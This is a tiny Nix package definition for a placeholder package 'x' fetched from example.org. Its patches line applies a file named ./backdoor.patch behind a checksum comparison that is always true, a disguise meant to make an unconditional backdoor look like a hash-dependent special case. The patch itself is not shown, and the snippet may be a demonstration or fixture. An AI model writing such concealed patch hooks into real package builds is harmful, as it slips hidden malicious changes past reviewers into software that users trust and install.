{ lib, stdenv, fetchurl }:

let
  sum = "1yr7ndy6k2y9dg8q1v2xbjcxyg0ziyvkx2wlmy7p8vrwkmxh4bkk";
in
stdenv.mkDerivation rec {
  pname = "x";
  version = "1.3";
  src = fetchurl {
    url = "https://example.org/x-${version}.tar.gz";
    sha256 = sum;
  };
  patches = lib.optional (sum == "1yr7ndy6k2y9dg8q1v2xbjcxyg0ziyvkx2wlmy7p8vrwkmxh4bkk") ./backdoor.patch;
}
